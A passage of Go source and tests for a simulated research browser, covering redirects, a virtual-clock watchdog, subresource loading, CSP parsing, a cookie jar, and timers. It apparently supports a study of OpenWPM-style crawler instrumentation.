	for i := 0; i <= b.Opts.MaxRedirects; i++ {
		resp, err := b.fetch(cur, rtype, "GET", "")
		if err != nil {
			return nil, cur, err
		}
		if resp.Status == 301 || resp.Status == 302 || resp.Status == 307 {
			loc := resp.Header("Location")
			if loc == "" {
				return resp, cur, nil
			}
			cur = httpsim.Resolve(cur, loc)
			continue
		}
		return resp, cur, nil
	}
	return nil, cur, ErrRedirectLoop
}

// fetch performs one request through the transport, stores cookies and fires
// the request hook.
func (b *Browser) fetch(url string, rtype httpsim.ResourceType, method, body string) (*httpsim.Response, error) {
	if b.abortErr != nil {
		return nil, b.abortErr
	}
	if b.budgetExhausted() {
		b.abortErr = ErrVisitBudget
		b.noteWatchdogFire(url)
		return nil, ErrVisitBudget
	}
	var span int64
	if b.tel.Enabled() {
		span = b.tel.Begin("http-exchange", b.visitSpan, b.clockMS,
			telemetry.L("url", url), telemetry.L("type", string(rtype)))
	}
	req := &httpsim.Request{
		Method:   method,
		URL:      url,
		Type:     rtype,
		Headers:  map[string]string{},
		Body:     body,
		ClientID: b.Opts.ClientID,
		TopURL:   b.finalURL,
		Time:     b.clockMS,
	}
	req.Headers["User-Agent"] = b.Opts.Config.UserAgent
	if ck := b.Jar.HeaderFor(url); ck != "" {
		req.Headers["Cookie"] = ck
	}
	resp, err := b.Opts.Transport.RoundTrip(req)
	if err != nil {
		// some failures consume virtual time before surfacing (hangs burn
		// the watchdog budget) or kill the whole visit (crashes); both are
		// expressed through optional interfaces so the transport layer needs
		// no dependency on the fault package
		if vc, ok := err.(interface{ VirtualCost() float64 }); ok {
			b.chargeSeconds(vc.VirtualCost())
		}
		if ab, ok := err.(interface{ AbortsVisit() bool }); ok && ab.AbortsVisit() {
			b.abortErr = err
		}
		if span != 0 {
			b.tel.End(span, "http-exchange", b.clockMS, telemetry.L("status", "error"))
		}
		if b.OnRequest != nil {
			b.OnRequest(req, nil)
		}
		return nil, err
	}
	if resp.DelaySeconds > 0 {
		b.chargeSeconds(resp.DelaySeconds)
		if b.budgetExhausted() {
			// the response arrived only after the watchdog gave up
			b.abortErr = ErrVisitBudget
			b.noteWatchdogFire(url)
			if span != 0 {
				b.tel.End(span, "http-exchange", b.clockMS, telemetry.L("status", "watchdog"))
			}
			if b.OnRequest != nil {
				b.OnRequest(req, nil)
			}
			return nil, ErrVisitBudget
		}
	}
	before := len(b.Jar.History)
	b.Jar.StoreFromResponse(resp, url, b.finalURL, b.clockMS)
	if b.OnCookieStored != nil {
		for _, rec := range b.Jar.History[before:] {
			b.OnCookieStored(rec)
		}
	}
	if b.OnRequest != nil {
		b.OnRequest(req, resp)
	}
	if span != 0 {
		b.tel.End(span, "http-exchange", b.clockMS, telemetry.L("status", fmt.Sprint(resp.Status)))
	}
	return resp, nil
}

// noteWatchdogFire records the visit watchdog aborting the current visit.
func (b *Browser) noteWatchdogFire(url string) {
	b.mWatchdogFires.Inc()
	if b.tel.Enabled() {
		b.tel.Event(telemetry.LevelWarn, "watchdog-fire", b.clockMS,
			telemetry.L("url", url), telemetry.L("visit", b.visitURL))
	}
}

// chargeSeconds advances the virtual clock by server latency, clamped so a
// single slow response cannot overshoot far past the visit budget.
func (b *Browser) chargeSeconds(s float64) {
	if s <= 0 {
		return
	}
	ms := s * 1000
	if b.Opts.MaxVisitSeconds > 0 {
		end := b.visitStartMS + b.Opts.MaxVisitSeconds*1000
		if b.clockMS+ms > end {
			b.clockMS = end
			return
		}
	}
	b.clockMS += ms
}

// budgetExhausted reports whether the current visit has used up its budget.
func (b *Browser) budgetExhausted() bool {
	return b.Opts.MaxVisitSeconds > 0 && b.clockMS-b.visitStartMS >= b.Opts.MaxVisitSeconds*1000
}

// AbortError returns the error that aborted the current visit, if any.
func (b *Browser) AbortError() error { return b.abortErr }

// newWindow creates a realm for a document and fires the window hook.
func (b *Browser) newWindow(url string, top bool, parent *jsdom.DOM) *jsdom.DOM {
	cfg := b.Opts.Config
	cfg.WindowIndex += b.windowIdx
	fh := &frameHost{b: b}
	d := jsdom.Build(cfg, fh, url)
	fh.dom = d
	d.It.StepLimit = 2_000_000
	d.It.Reseed(seedFor(b.Opts.ClientID, url))
	if parent != nil {
		d.Parent = parent
	}
	if b.OnWindowCreated != nil {
		b.OnWindowCreated(d, top)
	}
	return d
}

func seedFor(clientID, url string) int64 {
	h := uint64(1469598103934665603)
	for i := 0; i < len(clientID); i++ {
		h = (h ^ uint64(clientID[i])) * 1099511628211
	}
	for i := 0; i < len(url); i++ {
		h = (h ^ uint64(url[i])) * 1099511628211
	}
	return int64(h & 0x7fffffffffffffff)
}

// loadHTML processes a document's markup inside realm d: fetches
// subresources, registers elements, runs scripts.
func (b *Browser) loadHTML(d *jsdom.DOM, body string) {
	docHost := httpsim.Host(d.URL)
	for _, item := range ParseHTML(body) {
		if b.abortErr != nil && item.Tag != "a" {
			// aborted: no further fetches or script execution, but anchor
			// harvesting is pure parsing and feeds partial-result salvage
			continue
		}
		switch item.Tag {
		case "script":
			if src := item.Attrs["src"]; src != "" {
				url := httpsim.Resolve(d.URL, src)
				if b.csp.Present && !b.csp.AllowsScriptFrom(httpsim.Host(url), docHost) {
					b.reportCSPViolation()
					continue
				}
				resp, err := b.fetch(url, httpsim.TypeScript, "GET", "")
				if err != nil || resp.Status != 200 {
					continue
				}
				b.runScript(d, resp.Body, url, false)
				continue
			}
			if b.csp.Present && !b.csp.AllowsInline() {
				b.reportCSPViolation()
				continue
			}
			b.runScript(d, item.Inline, d.URL+"#inline", true)
		case "img":
			if src := item.Attrs["src"]; src != "" {
				b.fetch(httpsim.Resolve(d.URL, src), httpsim.TypeImage, "GET", "")
			}
			if srcset := item.Attrs["srcset"]; srcset != "" {
				first := strings.Fields(strings.Split(srcset, ",")[0])
				if len(first) > 0 {
					b.fetch(httpsim.Resolve(d.URL, first[0]), httpsim.TypeImageset, "GET", "")
				}
			}
		case "link":
			href := item.Attrs["href"]
			if href == "" {
				continue
			}
			rtype := httpsim.TypeStylesheet
			if item.Attrs["as"] == "font" {
				rtype = httpsim.TypeFont
			}
			b.fetch(httpsim.Resolve(d.URL, href), rtype, "GET", "")
		case "video", "audio":
			if src := item.Attrs["src"]; src != "" {
				b.fetch(httpsim.Resolve(d.URL, src), httpsim.TypeMedia, "GET", "")
			}
		case "object", "embed":
			if src := item.Attrs["data"] + item.Attrs["src"]; src != "" {
				b.fetch(httpsim.Resolve(d.URL, src), httpsim.TypeObject, "GET", "")
			}
		case "iframe":
			src := item.Attrs["src"]
			if src == "" {
				src = "about:blank"
			} else {
				src = httpsim.Resolve(d.URL, src)
			}
			if fd, err := b.createFrame(d, src); err == nil && fd != nil {
				fd.Parent = d
				d.Frames = append(d.Frames, fd)
			}
		case "a":
			if href := item.Attrs["href"]; href != "" && d.Parent == nil {
				b.links = append(b.links, httpsim.Resolve(d.URL, href))
			}
		default:
			if id := item.Attrs["id"]; id != "" {
				d.RegisterElement(item.Tag, id)
			}
		}
	}
}

// cachedParse reuses parsed, bytecode-compiled programs across visits for
// identical script content — third-party scripts repeat across thousands of
// sites, and compiled code is read-only at evaluation time, so sharing is
// safe. The shared cache is content-addressed by full SHA-256 with
// source-equality verification on hit (a truncated fingerprint here once
// served one script's AST for another's body) and bounded by LRU eviction.
func cachedParse(source, url string) (*minjs.Program, error) {
	// the URL is part of the key: stack traces and call attribution carry
	// the program name, which must match the fetched URL
	return scriptcache.Shared.Program(source, url)
}

// runScript executes a script payload in realm d, recording it and capturing
// uncaught errors.
func (b *Browser) runScript(d *jsdom.DOM, source, url string, inline bool) {
	b.Scripts = append(b.Scripts, ScriptRecord{URL: url, Source: source, Inline: inline, FrameURL: d.URL})
	prog, err := cachedParse(source, url)
	if err != nil {
		b.scriptErrs = append(b.scriptErrs, err.Error())
		return
	}
	if !b.tel.Enabled() {
		if _, err := d.It.RunProgram(prog); err != nil {
			b.scriptErrs = append(b.scriptErrs, err.Error())
		}
		return
	}
	span := b.tel.Begin("script-exec", b.visitSpan, b.clockMS, telemetry.L("url", url))
	allocs0 := d.It.Allocs()
	_, err = d.It.RunProgram(prog)
	if err != nil {
		b.scriptErrs = append(b.scriptErrs, err.Error())
	}
	// RunProgram resets the step counter on entry, so Steps() is this
	// program's cost; allocs is cumulative, so take the delta
	b.mInterpSteps.Add(d.It.Steps())
	b.mInterpAllocs.Add(d.It.Allocs() - allocs0)
	b.tel.End(span, "script-exec", b.clockMS, telemetry.L("steps", fmt.Sprint(d.It.Steps())))
}

// createFrame builds a subframe realm for src. The frame's own content loads
// on the next event-loop turn; the window hook has already fired, so
// instrumentation that installs synchronously covers even immediate access
// by the parent, while instrumentation that defers does not (Sec. 5.4.1).
// Nesting depth derives from the parent chain, so self-embedding pages
// terminate even though frame content loads asynchronously.
func (b *Browser) createFrame(parent *jsdom.DOM, src string) (*jsdom.DOM, error) {
	depth := 0
	for p := parent; p != nil; p = p.Parent {
		depth++
	}
	if depth >= b.Opts.MaxFrameDepth {
		return nil, fmt.Errorf("browser: frame depth limit")
	}
	var body string
	if src != "about:blank" {
		resp, err := b.fetch(src, httpsim.TypeSubFrame, "GET", "")
		if err == nil && resp.Status == 200 {
			body = resp.Body
		}
	}
	d := b.newWindow(src, false, parent)
	if body != "" {
		content := body
		b.scheduleHostTask(d, func() {
			b.loadHTML(d, content)
		})
	}
	return d, nil
}

// scheduleHostTask queues a Go-side task on the event loop.
func (b *Browser) scheduleHostTask(d *jsdom.DOM, task func()) {
	fn := d.It.NewNative("", func(it *minjs.Interp, this minjs.Value, args []minjs.Value) (minjs.Value, error) {
		task()
		return minjs.Undefined(), nil
	})
	b.addTimer(d, fn, nil, 0)
}

func (b *Browser) addTimer(d *jsdom.DOM, fn *minjs.Object, args []minjs.Value, delayMS float64) int {
	if delayMS < 0 {
		delayMS = 0
	}
	b.timerSeq++
	t := &timer{id: b.timerSeq, at: b.clockMS + delayMS, seq: b.timerSeq, fn: fn, args: args, dom: d}
	b.timers = append(b.timers, t)
	return t.id
}

// Idle advances the virtual clock by seconds, firing due timers in order.
func (b *Browser) Idle(seconds float64) {
	deadline := b.clockMS + seconds*1000
	for iter := 0; iter < 100000; iter++ {
		if b.abortErr != nil {
			return
		}
		t := b.nextTimer(deadline)
		if t == nil {
			break
		}
		t.gone = true
		b.clockMS = t.at
		b.mTimerFires.Inc()
		if _, err := t.dom.It.CallFunction(t.fn, minjs.Undefined(), t.args); err != nil {
			b.scriptErrs = append(b.scriptErrs, err.Error())
		}
	}
	b.clockMS = deadline
}

func (b *Browser) nextTimer(deadline float64) *timer {
	var best *timer
	for _, t := range b.timers {
		if t.gone || t.at > deadline {
			continue
		}
		if best == nil || t.at < best.at || (t.at == best.at && t.seq < best.seq) {
			best = t
		}
	}
	if best != nil {
		// compact occasionally
		if len(b.timers) > 64 {
			live := b.timers[:0]
			for _, t := range b.timers {
				if !t.gone {
					live = append(live, t)
				}
			}
			b.timers = live
		}
	}
	return best
}

// reportCSPViolation sends a csp_report request to the policy's report-uri.
func (b *Browser) reportCSPViolation() {
	b.cspReports++
	if b.csp.ReportURI != "" {
		uri := httpsim.Resolve(b.finalURL, b.csp.ReportURI)
		b.fetch(uri, httpsim.TypeCSPReport, "POST", `{"csp-report":{"violated-directive":"script-src"}}`)
	}
}

// CSPReports returns the number of violations raised during the visit.
func (b *Browser) CSPReports() int { return b.cspReports }

// FinalURL returns the post-redirect URL of the current visit.
func (b *Browser) FinalURL() string { return b.finalURL }

// InjectPageScript runs src in the page context by injecting a DOM script
// node — OpenWPM's vanilla approach. It is subject to the page's CSP.
func (b *Browser) InjectPageScript(d *jsdom.DOM, src, name string) error {
	if b.csp.Present && !b.csp.AllowsInline() {
		b.reportCSPViolation()
		return ErrCSPBlocked
	}
	_, err := d.It.RunScript(src, name)
	return err
}

// RunContentScript runs src with content-script privileges: CSP does not
// apply (the WPM_hide approach, Sec. 6.2.1).
func (b *Browser) RunContentScript(d *jsdom.DOM, src, name string) error {
	_, err := d.It.RunScript(src, name)
	return err
}

// InjectPageProgram is InjectPageScript for a pre-parsed program, letting
// instrumentation reuse one AST across pages.
func (b *Browser) InjectPageProgram(d *jsdom.DOM, prog *minjs.Program) error {
	if b.csp.Present && !b.csp.AllowsInline() {
		b.reportCSPViolation()
		return ErrCSPBlocked
	}
	_, err := d.It.RunProgram(prog)
	return err
}

// RunContentProgram is RunContentScript for a pre-parsed program.
func (b *Browser) RunContentProgram(d *jsdom.DOM, prog *minjs.Program) error {
	_, err := d.It.RunProgram(prog)
	return err
}

// ScheduleTask queues a host-side task on the event loop (next turn). The
// vanilla JS instrument uses this to instrument new frames — a tick too late
// for code that runs at frame-creation time.
func (b *Browser) ScheduleTask(d *jsdom.DOM, task func()) {
	b.scheduleHostTask(d, task)
}

// FireListeners simulates interaction on the top document.
func (b *Browser) FireListeners(event string) error {
	if b.Top == nil {
		return nil
	}
	return b.Top.FireListeners(event)
}

// AllFrames returns the top document and every descendant frame.
func (b *Browser) AllFrames() []*jsdom.DOM {
	if b.Top == nil {
		return nil
	}
	var out []*jsdom.DOM
	var walk func(d *jsdom.DOM)
	walk = func(d *jsdom.DOM) {
		out = append(out, d)
		for _, f := range d.Frames {
			walk(f)
		}
	}
	walk(b.Top)
	return out
}

// frameHost adapts Browser to jsdom.Host for one realm.
type frameHost struct {
	b   *Browser
	dom *jsdom.DOM
}

func (fh *frameHost) Now() float64 { return fh.b.clockMS }

func (fh *frameHost) SetTimeout(fn *minjs.Object, args []minjs.Value, delayMS float64) int {
	return fh.b.addTimer(fh.dom, fn, args, delayMS)
}

func (fh *frameHost) ClearTimeout(id int) {
	for _, t := range fh.b.timers {
		if t.id == id {
			t.gone = true
		}
	}
}

func (fh *frameHost) Fetch(url string, rtype httpsim.ResourceType, method, body string) (int, string, string, error) {
	resp, err := fh.b.fetch(url, rtype, method, body)
	if err != nil {
		return 0, "", "", err
	}
	return resp.Status, resp.Header("Content-Type"), resp.Body, nil
}

func (fh *frameHost) CookieString() string {
	return fh.b.Jar.DocumentCookieString(fh.dom.URL)
}

func (fh *frameHost) SetCookieString(s string) {
	before := len(fh.b.Jar.History)
	fh.b.Jar.StoreDocumentCookie(s, fh.dom.URL, fh.b.finalURL, fh.b.clockMS)
	if fh.b.OnCookieStored != nil {
		for _, rec := range fh.b.Jar.History[before:] {
			fh.b.OnCookieStored(rec)
		}
	}
}

func (fh *frameHost) CreateFrame(src string) (*jsdom.DOM, error) {
	return fh.b.createFrame(fh.dom, src)
}

func (fh *frameHost) OpenWindow(url string) (*jsdom.DOM, error) {
	fh.b.windowIdx++
	return fh.b.createFrame(nil, url)
}

func (fh *frameHost) DocumentWrite(html string) {
	fh.b.loadHTML(fh.dom, html)
}

// SortTimersForTest exposes deterministic timer ordering in tests.
func (b *Browser) SortTimersForTest() {
	sort.SliceStable(b.timers, func(i, j int) bool { return b.timers[i].at < b.timers[j].at })
}
