package browser

import "strings"

// CSP is a parsed Content-Security-Policy, reduced to the directives the
// study needs: script-src sources and the violation report target.
type CSP struct {
	Present   bool
	ScriptSrc []string
	ReportURI string
}

// ParseCSP parses a Content-Security-Policy header value.
func ParseCSP(header string) CSP {
	if strings.TrimSpace(header) == "" {
		return CSP{}
	}
	c := CSP{Present: true}
	for _, directive := range strings.Split(header, ";") {
		fields := strings.Fields(directive)
		if len(fields) == 0 {
			continue
		}
		switch strings.ToLower(fields[0]) {
		case "script-src", "default-src":
			if len(c.ScriptSrc) == 0 || strings.ToLower(fields[0]) == "script-src" {
				c.ScriptSrc = fields[1:]
			}
		case "report-uri":
			if len(fields) > 1 {
				c.ReportURI = fields[1]
			}
		}
	}
	return c
}

// RestrictsScripts reports whether the policy has a script-src directive at
// all; without one, injection is unrestricted.
func (c CSP) RestrictsScripts() bool { return c.Present && len(c.ScriptSrc) > 0 }

// AllowsInline reports whether inline/injected scripts are allowed.
// OpenWPM's vanilla instrumentation injects a script node into the DOM,
// which a script-src without 'unsafe-inline' blocks (Sec. 5.1.2).
func (c CSP) AllowsInline() bool {
	if !c.RestrictsScripts() {
		return true
	}
	for _, s := range c.ScriptSrc {
		if strings.EqualFold(s, "'unsafe-inline'") {
			return true
		}
	}
	return false
}

// AllowsScriptFrom reports whether an external script from scriptHost may
// run on a document served by docHost.
func (c CSP) AllowsScriptFrom(scriptHost, docHost string) bool {
	if !c.RestrictsScripts() {
		return true
	}
	for _, s := range c.ScriptSrc {
		switch {
		case s == "*":
			return true
		case strings.EqualFold(s, "'self'"):
			if scriptHost == docHost {
				return true
			}
		case strings.HasPrefix(s, "*."):
			if strings.HasSuffix(scriptHost, s[1:]) {
				return true
			}
		default:
			if strings.EqualFold(strings.TrimPrefix(strings.TrimPrefix(s, "https://"), "http://"), scriptHost) {
				return true
			}
		}
	}
	return false
}
