package browser

import (
	"errors"
	"strings"
	"testing"

	"gullible/internal/httpsim"
)

// abortingErr stands in for an injected crash/hang: it aborts the visit and
// charges virtual time, without this package importing the faults package.
type abortingErr struct{ cost float64 }

func (e *abortingErr) Error() string        { return "simulated crash" }
func (e *abortingErr) AbortsVisit() bool    { return true }
func (e *abortingErr) VirtualCost() float64 { return e.cost }

// crashWeb fails a specific URL with an aborting error; everything else is
// served from the inner fakeWeb.
type crashWeb struct {
	inner   *fakeWeb
	crashOn string
	cost    float64
}

func (w *crashWeb) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	if req.URL == w.crashOn {
		return nil, &abortingErr{cost: w.cost}
	}
	return w.inner.RoundTrip(req)
}

func tarpitSite() *fakeWeb {
	slow := &httpsim.Response{Status: 200, Body: "var x = 1;",
		Headers: map[string]string{"Content-Type": "text/javascript"}, DelaySeconds: 40}
	return &fakeWeb{pages: map[string]*httpsim.Response{
		"https://slow.com/": page(`<html><head>
			<script src="/a.js"></script>
			<script src="/b.js"></script>
			<script src="/c.js"></script>
			</head><body><a href="/next">next</a></body></html>`, nil),
		"https://slow.com/a.js": slow,
		"https://slow.com/b.js": slow,
		"https://slow.com/c.js": slow,
	}}
}

func TestDelaySecondsChargesClock(t *testing.T) {
	w := tarpitSite()
	b := newTestBrowser(w) // no watchdog
	start := b.Now()
	if _, err := b.Visit("https://slow.com/"); err != nil {
		t.Fatal(err)
	}
	// three 40 s tarpits ⇒ at least 120 virtual seconds on the clock
	if elapsed := float64(b.Now()-start) / 1000; elapsed < 120 {
		t.Fatalf("virtual clock advanced only %.1fs, want ≥ 120s", elapsed)
	}
}

func TestWatchdogAbortsTarpittedVisit(t *testing.T) {
	w := tarpitSite()
	b := newTestBrowser(w)
	b.Opts.MaxVisitSeconds = 60
	start := b.Now()
	res, err := b.Visit("https://slow.com/")
	if !errors.Is(err, ErrVisitBudget) {
		t.Fatalf("want ErrVisitBudget, got %v", err)
	}
	if res == nil || !res.Aborted {
		t.Fatalf("want partial aborted result, got %+v", res)
	}
	// partial salvage: the main document loaded, so its link survived
	if len(res.Links) != 1 || !strings.Contains(res.Links[0], "/next") {
		t.Fatalf("partial result lost the parsed links: %v", res.Links)
	}
	// the clock is clamped to the budget, not left at the full tarpit cost
	if elapsed := float64(b.Now()-start) / 1000; elapsed > 61 {
		t.Fatalf("clock ran %.1fs past the 60s budget", elapsed)
	}
	// later fetches on the same visit fail fast
	if _, err := b.fetch("https://slow.com/c.js", httpsim.TypeScript, "GET", ""); !errors.Is(err, ErrVisitBudget) {
		t.Fatalf("post-abort fetch: %v", err)
	}
}

func TestWatchdogResetsBetweenVisits(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://fast.com/": page("<html><body>ok</body></html>", nil),
	}}
	b := newTestBrowser(w)
	b.Opts.MaxVisitSeconds = 30
	for i := 0; i < 5; i++ {
		if _, err := b.Visit("https://fast.com/"); err != nil {
			t.Fatalf("visit %d: %v", i, err)
		}
	}
}

func TestCrashAbortsVisitKeepsPartial(t *testing.T) {
	w := &crashWeb{
		inner: &fakeWeb{pages: map[string]*httpsim.Response{
			"https://c.com/": page(`<html><head><script src="/ok.js"></script>
				<script src="/boom.js"></script></head>
				<body><img src="/logo.png"><a href="/about">about</a></body></html>`, nil),
			"https://c.com/ok.js":    {Status: 200, Body: "var ok = 1;", Headers: map[string]string{"Content-Type": "text/javascript"}},
			"https://c.com/logo.png": {Status: 200, Body: "PNG", Headers: map[string]string{"Content-Type": "image/png"}},
		}},
		crashOn: "https://c.com/boom.js",
		cost:    7,
	}
	b := newTestBrowser(w.inner)
	b.Opts.Transport = w
	start := b.Now()
	res, err := b.Visit("https://c.com/")
	if err == nil || !strings.Contains(err.Error(), "simulated crash") {
		t.Fatalf("want crash error, got %v", err)
	}
	if res == nil || !res.Aborted {
		t.Fatalf("want partial result, got %+v", res)
	}
	if len(res.Links) != 1 {
		t.Fatalf("partial result lost links: %v", res.Links)
	}
	if elapsed := float64(b.Now()-start) / 1000; elapsed < 7 {
		t.Fatalf("VirtualCost not charged: %.1fs elapsed", elapsed)
	}
}

func TestNon200MainDocumentIsPermanent(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{}} // fakeWeb 404s unknowns
	b := newTestBrowser(w)
	res, err := b.Visit("https://gone.com/")
	var se *StatusError
	if !errors.As(err, &se) || se.Status != 404 {
		t.Fatalf("want StatusError{404}, got %v", err)
	}
	if res != nil {
		t.Fatalf("a non-200 main document has nothing to salvage, got %+v", res)
	}
}
