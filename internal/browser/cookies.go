package browser

import (
	"sort"
	"strconv"
	"strings"

	"gullible/internal/httpsim"
)

// CookieRecord is a stored cookie plus the visit context that set it.
type CookieRecord struct {
	Cookie httpsim.Cookie
	TopURL string // top-level site at set time
	SetAt  float64
	ViaJS  bool
}

// FirstParty reports whether the cookie's domain matches the top-level site.
func (r CookieRecord) FirstParty() bool {
	return httpsim.ETLDPlusOne(r.Cookie.Domain) == httpsim.ETLDPlusOne(httpsim.Host(r.TopURL))
}

// CookieJar stores cookies keyed by registrable domain and name. It persists
// across visits, which is what lets sites re-identify a returning client.
type CookieJar struct {
	cookies map[string]map[string]CookieRecord // eTLD+1 → name → record
	// History records every store operation, including overwrites; the
	// cookie instrument consumes it.
	History []CookieRecord
}

// NewCookieJar returns an empty jar.
func NewCookieJar() *CookieJar {
	return &CookieJar{cookies: map[string]map[string]CookieRecord{}}
}

// Store saves a cookie set by host (HTTP) or the document (JS).
func (j *CookieJar) Store(c httpsim.Cookie, topURL string, now float64, viaJS bool) {
	if c.Domain == "" {
		return
	}
	key := httpsim.ETLDPlusOne(c.Domain)
	m := j.cookies[key]
	if m == nil {
		m = map[string]CookieRecord{}
		j.cookies[key] = m
	}
	rec := CookieRecord{Cookie: c, TopURL: topURL, SetAt: now, ViaJS: viaJS}
	m[c.Name] = rec
	j.History = append(j.History, rec)
}

// StoreFromResponse saves all cookies of a response, defaulting the domain
// to the responding host.
func (j *CookieJar) StoreFromResponse(resp *httpsim.Response, reqURL, topURL string, now float64) {
	for _, c := range resp.SetCookies {
		if c.Domain == "" {
			c.Domain = httpsim.Host(reqURL)
		}
		j.Store(c, topURL, now, false)
	}
}

// HeaderFor renders the Cookie header value for a request URL.
func (j *CookieJar) HeaderFor(url string) string {
	m := j.cookies[httpsim.ETLDPlusOne(httpsim.Host(url))]
	if len(m) == 0 {
		return ""
	}
	names := make([]string, 0, len(m))
	for n := range m {
		names = append(names, n)
	}
	sort.Strings(names)
	var b strings.Builder
	for i, n := range names {
		if i > 0 {
			b.WriteString("; ")
		}
		b.WriteString(n)
		b.WriteByte('=')
		b.WriteString(m[n].Cookie.Value)
	}
	return b.String()
}

// DocumentCookieString renders document.cookie for a document URL.
func (j *CookieJar) DocumentCookieString(url string) string {
	return j.HeaderFor(url)
}

// StoreDocumentCookie parses a document.cookie assignment string.
func (j *CookieJar) StoreDocumentCookie(s, docURL, topURL string, now float64) {
	c := ParseSetCookie(s)
	if c.Name == "" {
		return
	}
	if c.Domain == "" {
		c.Domain = httpsim.Host(docURL)
	}
	j.Store(c, topURL, now, true)
}

// All returns every live cookie.
func (j *CookieJar) All() []CookieRecord {
	var out []CookieRecord
	var keys []string
	for k := range j.cookies {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		var names []string
		for n := range j.cookies[k] {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			out = append(out, j.cookies[k][n])
		}
	}
	return out
}

// Len reports the number of live cookies.
func (j *CookieJar) Len() int {
	n := 0
	for _, m := range j.cookies {
		n += len(m)
	}
	return n
}

// ParseSetCookie parses a Set-Cookie style string into a Cookie.
func ParseSetCookie(s string) httpsim.Cookie {
	parts := strings.Split(s, ";")
	if len(parts) == 0 {
		return httpsim.Cookie{}
	}
	var c httpsim.Cookie
	if eq := strings.IndexByte(parts[0], '='); eq >= 0 {
		c.Name = strings.TrimSpace(parts[0][:eq])
		c.Value = strings.TrimSpace(parts[0][eq+1:])
	}
	for _, p := range parts[1:] {
		p = strings.TrimSpace(p)
		eq := strings.IndexByte(p, '=')
		key := p
		val := ""
		if eq >= 0 {
			key, val = p[:eq], p[eq+1:]
		}
		switch strings.ToLower(key) {
		case "domain":
			c.Domain = strings.TrimPrefix(val, ".")
		case "max-age":
			if n, err := strconv.ParseFloat(val, 64); err == nil {
				c.Expires = n
			}
		case "secure":
			c.Secure = true
		case "httponly":
			c.HTTP = true
		}
	}
	return c
}
