package browser

import (
	"errors"
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
)

func TestRedirectLoopAborts(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": {Status: 302, Headers: map[string]string{"Location": "https://b.com/"}},
		"https://b.com/": {Status: 302, Headers: map[string]string{"Location": "https://a.com/"}},
	}}
	b := newTestBrowser(w)
	if _, err := b.Visit("https://a.com/"); err == nil {
		t.Fatal("redirect loop did not error")
	} else if !strings.Contains(err.Error(), "redirect") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestTransportErrorSurfaces(t *testing.T) {
	failing := httpsim.RoundTripperFunc(func(req *httpsim.Request) (*httpsim.Response, error) {
		return nil, errors.New("connection refused")
	})
	b := New(Options{Config: jsdom.StandardConfig(jsdom.Ubuntu, jsdom.Regular, 90, 0), Transport: failing})
	if _, err := b.Visit("https://down.example/"); err == nil {
		t.Fatal("transport failure did not surface")
	}
}

func TestFrameDepthLimit(t *testing.T) {
	// a page that embeds itself recursively must stop at MaxFrameDepth
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(`<iframe src="https://a.com/"></iframe>`, nil),
	}}
	b := newTestBrowser(w)
	b.Opts.MaxFrameDepth = 3
	if _, err := b.Visit("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if n := len(b.AllFrames()); n > 5 {
		t.Errorf("frames = %d, recursion not bounded", n)
	}
}

func TestCSPHostAllowlist(t *testing.T) {
	w := &fakeWeb{pages: map[string]*httpsim.Response{
		"https://a.com/": page(
			`<script src="https://good.cdn/x.js"></script><script src="https://evil.cdn/y.js"></script>`,
			map[string]string{"Content-Security-Policy": "script-src 'self' good.cdn; report-uri /r"}),
		"https://good.cdn/x.js": {Status: 200, Body: "var good = 1;", Headers: map[string]string{"Content-Type": "text/javascript"}},
		"https://evil.cdn/y.js": {Status: 200, Body: "var evil = 1;", Headers: map[string]string{"Content-Type": "text/javascript"}},
	}}
	b := newTestBrowser(w)
	res, err := b.Visit("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := b.Top.It.RunScript("typeof good", "c.js"); v.Str != "number" {
		t.Error("allowed host blocked")
	}
	if v, _ := b.Top.It.RunScript("typeof evil", "c.js"); v.Str != "undefined" {
		t.Error("disallowed host executed")
	}
	if res.CSPReports != 1 {
		t.Errorf("CSP reports = %d, want 1", res.CSPReports)
	}
}

func TestParseCSPVariants(t *testing.T) {
	c := ParseCSP("default-src 'self'; script-src 'self' cdn.example 'unsafe-inline'; report-uri /r")
	if !c.AllowsInline() {
		t.Error("'unsafe-inline' ignored")
	}
	if !c.AllowsScriptFrom("cdn.example", "site.example") {
		t.Error("listed host blocked")
	}
	if c.ReportURI != "/r" {
		t.Errorf("report-uri = %q", c.ReportURI)
	}
	// default-src fallback when script-src is absent
	c = ParseCSP("default-src 'self'")
	if c.AllowsInline() {
		t.Error("default-src 'self' should block inline")
	}
	if !c.AllowsScriptFrom("site.example", "site.example") {
		t.Error("'self' should allow own host")
	}
	// empty header: unrestricted
	c = ParseCSP("")
	if c.Present || !c.AllowsInline() {
		t.Error("empty policy should be absent/unrestricted")
	}
	// wildcard subdomain
	c = ParseCSP("script-src *.trusted.example")
	if !c.AllowsScriptFrom("cdn.trusted.example", "x") {
		t.Error("wildcard subdomain blocked")
	}
	if c.AllowsScriptFrom("evil.example", "x") {
		t.Error("foreign host allowed by wildcard")
	}
}

func TestCookieJarDomainScoping(t *testing.T) {
	j := NewCookieJar()
	j.Store(httpsim.Cookie{Name: "a", Value: "1", Domain: "x.com"}, "https://x.com/", 0, false)
	j.Store(httpsim.Cookie{Name: "b", Value: "2", Domain: "sub.x.com"}, "https://x.com/", 0, false)
	j.Store(httpsim.Cookie{Name: "c", Value: "3", Domain: "y.net"}, "https://x.com/", 0, false)
	// registrable-domain scoping: sub.x.com shares the x.com jar bucket
	hdr := j.HeaderFor("https://www.x.com/p")
	if !strings.Contains(hdr, "a=1") || !strings.Contains(hdr, "b=2") {
		t.Errorf("header = %q", hdr)
	}
	if strings.Contains(hdr, "c=3") {
		t.Errorf("cross-domain cookie leaked: %q", hdr)
	}
	if j.Len() != 3 {
		t.Errorf("jar size = %d", j.Len())
	}
}

func TestParseSetCookieAttributes(t *testing.T) {
	c := ParseSetCookie("uid=xyz; Domain=.t.com; Max-Age=86400; Secure; HttpOnly")
	if c.Name != "uid" || c.Value != "xyz" {
